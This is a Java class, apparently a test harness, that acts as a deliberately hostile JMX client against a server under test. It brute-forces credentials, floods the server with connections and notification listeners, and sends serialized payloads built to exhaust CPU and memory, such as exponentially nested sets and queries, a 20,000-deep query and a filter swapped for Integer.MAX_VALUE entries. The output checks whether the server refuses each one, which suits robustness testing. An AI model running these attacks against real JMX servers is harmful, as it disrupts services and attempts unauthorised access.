package io.karmi.jmx;

import java.io.ByteArrayOutputStream;
import java.io.DataOutputStream;
import java.io.IOException;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.lang.management.ManagementFactory;
import java.lang.reflect.Field;
import java.rmi.registry.LocateRegistry;
import java.util.ArrayList;
import java.util.Collections;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.concurrent.Callable;
import java.util.concurrent.FutureTask;
import java.util.concurrent.TimeUnit;
import javax.management.AttributeValueExp;
import javax.management.MBeanServerConnection;
import javax.management.Notification;
import javax.management.NotificationFilter;
import javax.management.NotificationFilterSupport;
import javax.management.NotificationListener;
import javax.management.ObjectName;
import javax.management.Query;
import javax.management.QueryExp;
import javax.management.ValueExp;
import javax.management.remote.JMXConnector;
import javax.management.remote.JMXConnectorFactory;
import javax.management.remote.JMXServiceURL;
import javax.management.remote.rmi.RMIConnection;
import javax.management.remote.rmi.RMIServer;

/** A console that means harm: it guesses passwords, or makes its server work or wait for years. */
final class HostileConsole {
  private final ConsoleMain console;
  private final MBeanServerConnection beans;
  private final ObjectName bean;

  HostileConsole(ConsoleMain console, MBeanServerConnection beans, ObjectName bean) {
    this.console = console;
    this.beans = beans;
    this.bean = bean;
  }

  void run(String what) throws Exception {
    switch (what) {
      case "hashes" -> hashes();
      case "names" -> names();
      case "listeners" -> listeners();
      default -> {
        Thread deep = new Thread(null, this::queriesThatTakeYears, "deep", 1 << 29);
        deep.start();
        deep.join();
      }
    }
  }

  /** Tries fifty passwords. */
  static void guess(JMXServiceURL url) {
    for (int i = 0; i < 50; i++) {
      String[] credentials = {"user", "guess " + i};
      try {
        JMXConnectorFactory.connect(url, Map.of(JMXConnector.CREDENTIALS, credentials));
        System.out.println("attached");
      } catch (IOException | SecurityException e) {
        System.out.println("refused " + e.getMessage());
      }
    }
  }

  /** Opens a hundred connections, and keeps them. */
  static void crowd(JMXServiceURL url, Map<String, Object> environment) {
    List<JMXConnector> opened = new ArrayList<>();
    try {
      while (opened.size() < 100) {
        opened.add(JMXConnectorFactory.connect(url, environment));
      }
    } catch (IOException e) {
      System.out.println("refused " + e.getMessage());
    }
    System.out.println("opened " + opened.size());
  }

  /** Sends classes that the server does not have, each with a long name. */
  private void names() throws Exception {
    for (int i = 0; i < 30; i++) {
      Class<?> absent = new Absent().define("a".repeat(60_000) + i);
      try {
        console.setLevel(absent);
      } catch (Exception e) {
        StringWriter text = new StringWriter();
        e.printStackTrace(new PrintWriter(text));
        boolean refused = text.toString().contains("the names of absent classes that peers");
        System.out.println(refused ? "refused" : "looked for");
      }
    }
  }

  /** Makes interfaces of its own. */
  private static final class Absent extends ClassLoader {
    Class<?> define(String name) throws IOException {
      ByteArrayOutputStream bytes = new ByteArrayOutputStream();
      DataOutputStream out = new DataOutputStream(bytes);
      out.writeInt(0xCAFEBABE);
      out.writeInt(61); // of JDK 17
      out.writeShort(5);
      for (String each : new String[] {name, "java/lang/Object"}) {
        out.writeByte(1); // a text
        out.writeUTF(each);
      }
      for (int text = 1; text <= 2; text++) {
        out.writeByte(7); // a class of that name
        out.writeShort(text);
      }
      out.writeShort(0x601); // a public interface
      out.writeShort(3);
      out.writeShort(4);
      out.writeLong(0); // no interfaces, fields, methods and attributes
      return defineClass(name, bytes.toByteArray(), 0, bytes.size());
    }
  }

  /** Sends a set whose hash takes years, and then at once some whose hash takes milliseconds. */
  private void hashes() throws InterruptedException {
    sayWhy("years", 60);
    List<Thread> threads = new ArrayList<>();
    for (int i = 0; i < 40; i++) {
      threads.add(new Thread(() -> sayWhy("some", 21)));
    }
    threads.forEach(Thread::start);
    for (Thread thread : threads) {
      thread.join();
    }
    sayWhy("few", 3);
  }

  private void sayWhy(String what, int levels) {
    try {
      console.setLevel(setOfLists(levels));
    } catch (Exception e) {
      System.out.println(what + " " + e);
    }
  }

  /** A set with a list that has another one twice, which has another one twice, and so on. */
  private static Set<Object> setOfLists(int levels) {
    List<Object> list = new ArrayList<>();
    Set<Object> set = new HashSet<>();
    set.add(list);
    for (int i = 0; i < levels; i++) {
      List<Object> next = new ArrayList<>();
      list.add(next);
      list.add(next);
      list = next;
    }
    return set;
  }

  /** Sends queries and a filter whose evaluation takes years, and others that look like them. */
  private void queriesThatTakeYears() {
    sayCause("parts in parts", () -> beans.queryNames(null, queryOfQueries(60)));
    sayCause("parts in parts, beans", () -> beans.queryMBeans(null, queryOfQueries(60)));
    sayCause(
        "values in values",
        () -> {
          ValueExp value = Query.value(1);
          for (int i = 0; i < 60; i++) {
            value = Query.plus(value, value);
          }
          return beans.queryNames(null, Query.eq(value, Query.value(0)));
        });
    QueryExp deep = Query.match(Query.attr("Level"), Query.value("*"));
    for (int i = 0; i < 20_000; i++) {
      deep = Query.not(deep);
    }
    QueryExp deepest = deep;
    sayCause("deep", () -> beans.queryNames(null, deepest));
    console.say("few parts in parts", () -> beans.queryNames(bean, queryOfQueries(5)));
    String asterisks = "*?".repeat(20) + "*\uffff";
    ObjectName runtime = ManagementFactory.getRuntimeMXBean().getObjectName();
    console.say(
        "asterisks", () -> beans.queryNames(runtime, ConsoleMain.match("ClassPath", asterisks)));
    console.say(
        "no asterisk", () -> beans.queryNames(runtime, ConsoleMain.match("Name", "[0-9]?*")));
    NotificationFilterSupport filter = new NotificationFilterSupport();
    for (String each : Collections.nCopies(100, "type")) {
      filter.enableType(each);
    }
    console.say("types", () -> listen(filter));
    sayCause("copies of a type", () -> listen(new Copies()));
  }

  private void sayCause(String what, Callable<Object> action) {
    console.say(
        what,
        () -> {
          try {
            return action.call();
          } catch (IOException e) {
            return e.toString();
          }
        });
  }

  private Object listen(NotificationFilter filter) throws Exception {
    NotificationListener ignoring = (notification, handback) -> {};
    beans.addNotificationListener(bean, ignoring, filter, null);
    beans.removeNotificationListener(bean, ignoring);
    return "added";
  }

  /** A query of the bean that has another one twice, which has another one twice, and so on. */
  private static QueryExp queryOfQueries(int levels) {
    AttributeValueExp level = Query.attr("Level");
    QueryExp query = Query.between(level, Query.value(1), level);
    for (int i = 0; i < levels; i++) {
      query = Query.and(query, query);
    }
    return query;
  }

  /** Becomes the JDK's filter, whose types are two thousand million times the same one. */
  private static final class Copies implements NotificationFilter {
    private static final long serialVersionUID = 1;

    @Override
    public boolean isNotificationEnabled(Notification notification) {
      return false;
    }

    private Object writeReplace() throws Exception {
      NotificationFilterSupport filter = new NotificationFilterSupport();
      Field types = NotificationFilterSupport.class.getDeclaredField("enabledTypes");
      types.setAccessible(true);
      types.set(filter, Collections.nCopies(Integer.MAX_VALUE, "type"));
      return filter;
    }
  }

  /** Adds listeners with filters of a thousand types, until they are refused. */
  private void listeners() throws Exception {
    NotificationFilterSupport filter = new NotificationFilterSupport();
    for (int i = 0; i < 1000; i++) {
      filter.enableType("a type without senders " + i);
    }
    NotificationListener ignoring = (notification, handback) -> {};
    int count = 0;
    try {
      for (; count < 1000; count++) {
        beans.addNotificationListener(bean, ignoring, filter, null);
      }
    } catch (IOException e) {
      System.out.println("refused " + e.getMessage());
    }
    System.out.println("fewer than all " + (count < 1000));
    beans.removeNotificationListener(bean, ignoring);
    beans.addNotificationListener(bean, ignoring, filter, null);
    System.out.println("one more");
    beans.removeNotificationListener(bean, ignoring);
    beanListeners(filter);
  }

  /** The same with a bean that listens: what was added before the refusal stays. */
  private void beanListeners(NotificationFilterSupport filter) throws Exception {
    ObjectName listener = new ObjectName("test:type=Relations");
    beans.createMBean(
        "javax.management.relation.RelationService",
        listener,
        new Object[] {true},
        new String[] {"boolean"});
    try {
      for (int i = 0; i < 1000; i++) {
        beans.addNotificationListener(bean, listener, filter, null);
      }
    } catch (IOException e) {
      System.out.println("a bean is refused: " + e.getMessage());
    }
    beans.removeNotificationListener(bean, listener);
    System.out.println("those before it were there");
    for (int i = 0; i < 2; i++) {
      ObjectName other = new ObjectName("test:type=Other,number=" + i);
      beans.createMBean(Managed.class.getName(), other);
      fill(other, listener, filter);
      beans.unregisterMBean(other);
    }
    beans.addNotificationListener(bean, (notification, handback) -> {}, filter, null);
    System.out.println("one more than those of a bean that is gone");
  }

  /** Lets a bean listen to another one until it is refused. */
  private void fill(ObjectName to, ObjectName listener, NotificationFilterSupport filter)
      throws Exception {
    int count = 0;
    try {
      for (; count < 1000; count++) {
        beans.addNotificationListener(to, listener, filter, null);
      }
    } catch (IOException e) {
      System.out.println("some were added " + (count > 0));
    }
  }

  /** Waits for notifications twice at a time over one connection, for an hour. */
  static void waits(JMXServiceURL url) throws Exception {
    RMIConnection connection =
        ((RMIServer)
                LocateRegistry.getRegistry(url.getHost(), url.getPort())
                    .lookup(url.getURLPath().substring(1)))
            .newClient(null);
    long next = connection.fetchNotifications(-1, 10, 0).getNextSequenceNumber();
    FutureTask<Integer> first =
        new FutureTask<>(
            () ->
                connection
                    .fetchNotifications(next, 10, 3_600_000)
                    .getTargetedNotifications()
                    .length);
    new Thread(first).start();
    long end = System.nanoTime() + TimeUnit.SECONDS.toNanos(ConsoleMain.DEADLINE_SECONDS);
    while (!first.isDone() && System.nanoTime() < end) {
      Thread other =
          new Thread(
              () -> {
                try {
                  connection.fetchNotifications(next, 10, 3_600_000);
                } catch (IOException e) {
                  System.out.println("a wait ended with " + e);
                }
              });
      other.setDaemon(true);
      other.start();
      other.join(200);
    }
    System.out.println("the first has ended with " + first.get(1, TimeUnit.SECONDS));
  }
}
